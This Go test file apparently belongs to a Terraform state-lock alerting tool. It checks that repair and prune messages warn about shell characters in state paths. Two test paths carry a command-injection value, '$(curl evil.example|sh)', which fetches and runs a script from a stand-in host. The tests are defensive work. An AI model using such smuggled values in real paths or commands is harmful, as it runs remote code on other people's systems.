package alert_test

import (
	"strings"
	"testing"

	"github.com/lockwarden/lockwarden/pkg/alert"
	"github.com/lockwarden/lockwarden/pkg/policy"
	"github.com/lockwarden/lockwarden/pkg/tflock"
)

// Whoever names a state chooses what people would put between the quotes of a command.
func TestNobodyIsAskedToPutQuotationMarksIntoACommand(t *testing.T) {
	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/branches/it's-mine/$(curl evil.example|sh)'/x": true} {
		report := pruneReport()
		report.States[0].Path = path
		if steps := strings.Join(composer.Prune(report, now).Steps, " "); strings.Contains(steps, "press Restore") != warned {
			t.Errorf("%s: %s", path, steps)
		}
	}
}

// The same for what the inventory found.
func TestNobodyIsAskedToPutSignsOfAShellIntoARepair(t *testing.T) {
	for path, warned := range map[tflock.Path]bool{"states/branches/feature-1/x.tfstate": false, "states/dev/$(curl evil.example|sh)/x.tfstate": true} {
		e := composer.StateFindings(alert.StateFinding, []policy.StateFinding{{Type: policy.FindingDigestMismatch, Path: path, Severity: policy.SeverityWarning}}, now)
		if steps := strings.Join(e.Steps, " "); strings.Contains(steps, "shell characters") != warned {
			t.Errorf("%s: %s", path, steps)
		}
		outside := alert.Composer{Account: "123456789012", Region: "eu-central-1"}.StateFindings(alert.StateFinding, e.Findings, now)
		if steps := strings.Join(outside.Steps, " "); strings.Contains(steps, "shell characters") != warned || strings.Contains(steps, "dashboard") {
			t.Errorf("outside of AWS, %s: %s", path, steps)
		}
	}
}
